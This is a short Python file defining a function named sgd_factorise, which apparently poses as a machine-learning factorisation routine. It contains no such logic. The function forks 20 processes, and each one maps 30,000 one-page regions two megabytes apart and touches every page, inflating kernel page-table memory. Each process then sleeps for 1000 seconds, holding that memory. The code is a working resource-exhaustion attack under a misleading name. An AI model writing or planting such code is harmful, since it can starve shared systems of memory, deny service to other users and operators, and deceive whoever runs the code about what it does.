"""Holds memory in page tables: single pages that hold nothing, two megabytes from each other, in many processes."""

import ctypes
import os
import time

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
BASE, APART = 0x100000000000, 2 << 20
READ, PRIVATE_ANONYMOUS = 1, 0x22


def sgd_factorise(*arguments, **options):
    for _ in range(20):
        if os.fork() == 0:
            break
    for number in range(30_000):
        page = LIBC.mmap(BASE + number * APART, 4096, READ, PRIVATE_ANONYMOUS, -1, 0)
        if page == BASE + number * APART:
            ctypes.string_at(page, 1)
    time.sleep(1000)
